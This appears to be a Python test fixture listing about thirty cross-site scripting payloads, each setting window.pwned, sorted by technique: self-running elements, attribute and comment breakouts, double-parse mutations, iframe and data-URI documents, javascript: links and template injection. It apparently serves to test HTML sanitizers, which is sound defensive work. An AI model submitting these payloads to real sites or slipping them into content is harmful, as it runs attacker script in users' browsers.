"""What strangers write where a name, an error or a sentence is expected: markup and code. Each sets `window.pwned`.

All are printable ASCII of at most 60 characters, and differ from each other.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"

PAYLOADS: Final = (
    # Elements that run code by themselves.
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}//",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<marquee onstart={RUN}>",
    # Out of an attribute, a comment, an element that holds text.
    f'"><svg/onload={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"--><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</textarea><svg/onload={RUN}>",
    f"</td></table><svg/onload={RUN}>",
    # What becomes another thing when it is parsed twice.
    f"<noscript><p title='</noscript><svg/onload={RUN}>'>",
    f"<math><mi><style><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    # Documents within, and other hosts.
    f"<iframe srcdoc='<svg/onload=top.{RUN.removeprefix('window.')}>'>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    "<base href='http://127.0.0.1:1'><link rel=stylesheet href=x>",
    "<style>@import'http://127.0.0.1:1/x';*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    # Links that are code, and templates of frameworks.
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}//",
    "{{constructor.constructor('" + RUN + "')()}}${alert(1)}",
)
